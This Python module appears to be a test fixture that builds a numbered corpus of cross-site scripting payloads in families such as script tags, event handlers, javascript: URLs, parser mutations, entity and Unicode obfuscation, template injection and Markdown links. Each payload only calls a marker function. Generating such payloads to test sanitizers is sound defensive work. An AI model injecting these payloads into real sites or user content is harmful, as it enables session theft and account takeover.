"""Text that runs as script where a page takes it for more than text: families of it, made by rule.

Every payload calls `__xss(N)` with its own number N, so that a page in which one runs says which one.
"""

from __future__ import annotations

from dataclasses import dataclass
from itertools import product
from typing import Iterator


@dataclass(frozen=True)
class Payload:
    number: int
    family: str
    text: str

    @property
    def is_one_line(self) -> bool:
        return not any(character in self.text for character in "\n\r\u2028\u2029\x0b\x0c")


def all_payloads() -> list[Payload]:
    """Every payload, numbered from 1, without repetition."""
    made: dict[str, str] = {}
    for family, texts in FAMILIES.items():
        for text in texts():
            made.setdefault(text, family)
    return [
        Payload(number, family, text.replace("CALL", f"__xss({number})").replace("TICK", f"__xss`{number}`"))
        for number, (text, family) in enumerate(made.items(), start=1)]


def _scripts() -> Iterator[str]:
    for opening, closing in product(
            ("<script>", "<SCRIPT>", "<ScRiPt >", "<script\t>", "<script/x>", "<script type=module>",
             "<script type='text/javascript'>", "<script\nasync>", "<svg><script>"),
            ("</script>", "</SCRIPT >", "</script\n>")):
        yield f"{opening}CALL{closing}"
    yield "<script>CALL"
    yield "<scr<script>ipt>CALL</scr</script>ipt>"
    yield "<<script>CALL//<</script>"
    yield "<script>//-->\nCALL</script>"
    yield "<script><!--\nCALL\n--></script>"
    yield "<![CDATA[<script>CALL</script>]]>"
    yield "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>CALL</script>"
    for source in ("data:text/javascript,CALL", "data:;base64,X19YU1M=", "//example.com/x.js", "\\\\example.com\\x.js"):
        yield f"<script src=\"{source}\"></script>"
        yield f"<svg><script href=\"{source}\" /></svg>"


def _handlers() -> Iterator[str]:
    loud = ["img src=x onerror", "svg onload", "body onload", "video src=x onerror", "audio src=x onerror",
            "video><source onerror", "input autofocus onfocus", "select autofocus onfocus",
            "textarea autofocus onfocus", "button autofocus onfocus", "details open ontoggle",
            "iframe onload", "object data=x onerror", "embed src=x onerror", "marquee onstart", "style onload",
            "link rel=stylesheet href=x onerror", "image src=x onerror", "isindex type=image src=x onerror",
            "svg><animate attributeName=x dur=1s onbegin", "svg><set attributeName=x onbegin",
            "dialog open onfocus tabindex=0 autofocus", "a tabindex=0 autofocus onfocus",
            "p style='animation: x' onanimationstart", "xss contenteditable autofocus onfocus"]
    for start in loud:
        yield f"<{start}=CALL>"
        yield f"<{start}=\"CALL\">"
        yield f"<{start}='CALL' "
    events = ("onclick", "onmouseover", "onpointerenter", "onfocusin", "onkeydown", "onwheel", "oncopy",
              "ontransitionend", "onscroll", "onbeforeinput")
    for element, event in product(("a", "b", "div", "table", "math", "summary", "kbd", "h1", "li", "sub"), events):
        yield f"<{element} {event}=CALL>x</{element}>"
    for gap in ("/", "\t", "\n", "\r", "\x0c", "/\n/", "//", "\u00a0"):
        yield f"<img{gap}src=x{gap}onerror=CALL>"
    yield "<img src=x onerror=TICK>"
    yield "<img src=x onerror=&#95;_xss&lpar;1&rpar;>"
    yield "<img src=x:x onerror\u000b=CALL>"
    yield "<img src=x oNeRrOr=CALL>"
    yield "<img src='x' onerror =\t'CALL'>"
    yield "<IMG \"\"\"><IMG SRC=x ONERROR=CALL>\">"
    yield "<br/onmouseover=CALL>"
    yield "<details open=\"\" ontoggle=CALL>"
    yield "<kbd onclick=CALL>Ctrl</kbd>"
    yield "<summary onclick=CALL>more</summary>"


def _addresses() -> Iterator[str]:
    for scheme in ("javascript", "JaVaScRiPt", "vbscript", "livescript", "mocha"):
        yield f"{scheme}:CALL"
    for written in ("java\tscript", "java\nscript", "java\rscript", "\x01javascript", " javascript", "\u00a0javascript",
                    "\u2028javascript", "\ufeffjavascript", "java\x00script", "java&#x09;script", "java&Tab;script",
                    "java&NewLine;script", "&#106;avascript", "&#x6A;avascript", "&#0000106avascript",
                    "jav&#x61script", "javascript&colon", "java%73cript", "%6aavascript", "java\\script",
                    "\\javascript", "feed:javascript", "view-source:javascript", "jar:javascript", "javas\u0441ript"):
        yield f"{written}:CALL"
    for tail in ("//%0aCALL", "//https://example.com/%0aCALL", "/**/CALL", "&#58;CALL", "&colon;CALL", "%43ALL",
                 "void(CALL)", "'<script>CALL</script>'", "//[x](y)%0D%0ACALL", "CALL//.md", "CALL#x.md", "CALL?/x.md"):
        yield f"javascript:{tail}"
    yield "javascript&#58;CALL"
    yield "javascript%3ACALL"
    yield "javascript&colon;CALL"
    yield "javascript\uff1aCALL"
    for kind in ("text/html", "TEXT/HTML", "image/svg+xml", "application/xhtml+xml", "text/xml", ""):
        yield f"data:{kind},<script>CALL</script>"
        yield f"data:{kind};charset=utf-7,+ADw-script+AD4-CALL"
    yield "data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg=="
    yield "blob:null/CALL"
    yield "filesystem:file:///CALL"
    yield "//example.com/CALL"
    yield "\\\\example.com\\CALL"
    yield "/\\example.com/CALL"
    yield "https:example.com\" onclick=\"CALL"
    yield "https://example.com/\"onmouseover=\"CALL"
    yield "https://example.com/'onmouseover='CALL"
    yield "https://example.com/<script>CALL</script>"
    yield "mailto:a@example.com\"onclick=\"CALL"
    yield "#\"onfocus=\"CALL\" tabindex=\"0"
    yield "x.md\" autofocus onfocus=\"CALL"


def _elements() -> Iterator[str]:
    for target in ("javascript:CALL", "java&Tab;script:CALL", "data:text/html,<script>CALL</script>"):
        yield f"<a href=\"{target}\">x</a>"
        yield f"<iframe src=\"{target}\"></iframe>"
        yield f"<object data=\"{target}\"></object>"
        yield f"<embed src=\"{target}\">"
        yield f"<form action=\"{target}\"><button>x</button></form>"
        yield f"<button form=x formaction=\"{target}\">x</button>"
        yield f"<input type=submit formaction=\"{target}\">"
        yield f"<meta http-equiv=refresh content=\"0;url={target}\">"
        yield f"<base href=\"{target}\">"
        yield f"<area href=\"{target}\">"
        yield f"<svg><a xlink:href=\"{target}\"><text>x</text></a></svg>"
        yield f"<math><mtext href=\"{target}\">x</mtext></math>"
        yield f"<link rel=import href=\"{target}\">"
        yield f"<img src=\"{target}\">"
        yield f"<body background=\"{target}\">"
        yield f"<video poster=\"{target}\"></video>"
        yield f"<blockquote cite=\"{target}\">x</blockquote>"
    yield "<iframe srcdoc=\"<script>parent.CALL</script>\"></iframe>"
    yield "<iframe srcdoc='&lt;script&gt;parent.CALL&lt;/script&gt;'></iframe>"
    yield "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>CALL</svg>#x\"/></svg>"
    yield "<svg><foreignObject><img src=x onerror=CALL></foreignObject></svg>"
    yield "<svg><animate xlink:href=#x attributeName=href values=javascript:CALL /><a id=x><text>x</text></a></svg>"
    yield "<template shadowrootmode=open><img src=x onerror=CALL></template>"
    yield "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\"><script>CALL</script>"
    yield "<meta charset=utf-7>+ADw-script+AD4-CALL+ADw-/script+AD4-"
    yield "<portal src=javascript:CALL></portal>"
    yield "<frameset onload=CALL><frame src=javascript:CALL></frameset>"
    yield "<button popovertarget=x onclick=CALL>x</button><div popover id=x onbeforetoggle=CALL>y</div>"


def _mutations() -> Iterator[str]:
    inner = "<img src=x onerror=CALL>"
    for wrapper in ("noscript", "noembed", "noframes", "xmp", "iframe", "style", "title", "textarea", "template",
                    "plaintext", "listing", "select", "math", "svg", "table", "option"):
        yield f"<{wrapper}><p title=\"</{wrapper}>{inner}\">"
        yield f"</{wrapper}>{inner}"
    yield f"<math><mtext><table><mglyph><style><!--</style>{inner}"
    yield f"<svg></p><style><a id=\"</style>{inner}\">"
    yield f"<form><math><mtext></form><form><mglyph><style></math>{inner}"
    yield f"<math><annotation-xml encoding=\"text/html\"><style>{inner}</style></annotation-xml></math>"
    yield f"<a/ title=\"`{inner}\">"
    yield f"<!--><img title=\"-->{inner}\">"
    yield f"<!-- --!>{inner}-->"
    yield f"<!--{inner}"
    yield f"<!--->{inner}-->"
    yield f"--><!-- ---> {inner} -->"
    yield f"<!-- internal -->{inner}<!-- /internal -->"
    yield f"<?php {inner} ?>"
    yield f"<!DOCTYPE x [<!ENTITY y \"{inner}\">]>&y;"


def _breakouts() -> Iterator[str]:
    for quote, end in product(("\"", "'", "`", "&quot;", "&#34;", "\\\"", "%22", "\u201d", "\uff02"), (">", " ", "/>")):
        yield f"{quote}{end}<img src=x onerror=CALL>"
        yield f"{quote}{end}autofocus onfocus=CALL x={quote}"
    for closing in ("</title>", "</head>", "</a>", "</h1>", "</code></pre>", "</td></tr></table>", "</nav>", "</main>",
                    "</svg>", "</p></div>", "</small>", "</summary></details>", "</button>", "</option></select>"):
        yield f"{closing}<script>CALL</script>"
    yield "';CALL;//"
    yield "\";CALL;//"
    yield "\\\";CALL;//"
    yield "</script><script>CALL</script>"
    yield "\u2028CALL"
    yield "\u2029CALL//"
    yield "]];CALL;[["
    yield "${CALL}"
    yield "`;CALL;`"


def _entities() -> Iterator[str]:
    for less, more in (("&lt;", "&gt;"), ("&#60;", "&#62;"), ("&#x3c;", "&#x3e;"), ("&#0060;", "&#0062;"),
                       ("&LT;", "&GT;"), ("&lt", "&gt"), ("%3C", "%3E"), ("\\u003c", "\\u003e"), ("\\x3c", "\\x3e"),
                       ("\uff1c", "\uff1e"), ("\u2039", "\u203a"), ("+ADw-", "+AD4-"), ("&amp;lt;", "&amp;gt;"),
                       ("\u00bc", "\u00be"), ("\u02c2", "\u02c3"), ("\\<", "\\>"), ("\ufe64", "\ufe65")):
        yield f"{less}script{more}CALL{less}/script{more}"
        yield f"{less}img src=x onerror=CALL{more}"
    for hidden in ("\u200b", "\u202e", "\u0300", "\ufeff", "\x7f", "\u00ad", "\U000e0041"):
        yield f"<{hidden}img src=x onerror=CALL>"
        yield f"<img src=x on{hidden}error=CALL>"
        yield f"<{hidden}/title><script>{hidden}CALL</script>"


def _templates() -> Iterator[str]:
    code = "constructor.constructor('CALL')()"
    for opening, closing in (("{{", "}}"), ("{{{", "}}}"), ("{{&", "}}"), ("{%", "%}"), ("${", "}"), ("#{", "}"),
                             ("<%=", "%>"), ("[[", "]]"), ("{{#", "}}"), ("{{>", "}}"), ("{{!", "}}"),
                             ("{{=<% %>=", "}}")):
        yield f"{opening}{code}{closing}"
        yield f"{opening}main{closing}<img src=x onerror=CALL>"
    # What stands for a hole in a template of the program itself, once it has been rendered.
    for slot in ("main", "title", "root", "navigation"):
        yield f"\ue000{slot}\ue001<img src=x onerror=CALL>"


def _styles() -> Iterator[str]:
    for rule in ("background:url(javascript:CALL)", "width:expression(CALL)", "behavior:url(#CALL)",
                 "-moz-binding:url(//x#CALL)", "@import 'javascript:CALL'", "color:red;}</style><script>CALL</script>",
                 "list-style:url('data:,CALL')"):
        yield f"<div style=\"{rule}\">x</div>"
        yield f"<style>{rule}</style>"
    yield "red\"/><script>CALL</script>"
    yield "red;background:url(//example.com/CALL)"


def _markdown() -> Iterator[str]:
    yield "[x](javascript:CALL)"
    yield "[x](<javascript:CALL>)"
    yield "[x](java\\\nscript:CALL)"
    yield "[x](https://example.com \"\\\"onmouseover=CALL x=\\\"\")"
    yield "[x](https://example.com '\"><img src=x onerror=CALL>')"
    yield "![x](javascript:CALL)"
    yield "![\"onerror=CALL x=\"](x.png)"
    yield "![x\"onerror=\"CALL](x.png)"
    yield "![x](x.png \"\\\"onerror=CALL x=\\\"\")"
    yield "<javascript:CALL>"
    yield "<data:text/html,<script>CALL</script>>"
    yield "https://example.com/\"onclick=CALL"
    yield "www.example.com/<img/src=x/onerror=CALL>"
    yield "a@example.com\"><img src=x onerror=CALL>"
    yield "[x]: javascript:CALL"
    yield "[a\"><img src=x onerror=CALL>][x]"
    yield "[^<img src=x onerror=CALL>]"
    yield "[![x](x.png)](javascript:CALL)"
    yield "[`<img src=x onerror=CALL>`](javascript:CALL)"
    yield "**<img src=x onerror=CALL>**"
    yield "~~<script>CALL</script>~~"
    yield "`</code><script>CALL</script>`"
    yield "``` \"><script>CALL</script>"
    yield "> [!NOTE]<img src=x onerror=CALL>"
    yield "> [!<img src=x onerror=CALL>]"
    yield "- [ ] <img src=x onerror=CALL>"
    yield "| <img src=x onerror=CALL> | ` | ` </td><script>CALL</script> |"
    yield "<details><summary><img src=x onerror=CALL></summary></details>"
    yield "<details><summary>&lt;img src=x onerror=CALL&gt;</summary></details>"
    yield "<kbd><script>CALL</script></kbd>"
    yield "<sub><a href=javascript:CALL>x</sub></a>"
    yield "<https://example.com/&quot;onclick=CALL>"
    yield "# <script>CALL</script>"
    yield "\\<img src=x onerror=CALL>"
    yield "<br><script>CALL</script>"


FAMILIES = {
    "script elements": _scripts, "event handlers": _handlers, "addresses": _addresses, "elements": _elements,
    "mutations": _mutations, "breakouts": _breakouts, "entities and Unicode": _entities, "templates": _templates,
    "styles": _styles, "Markdown": _markdown,
}
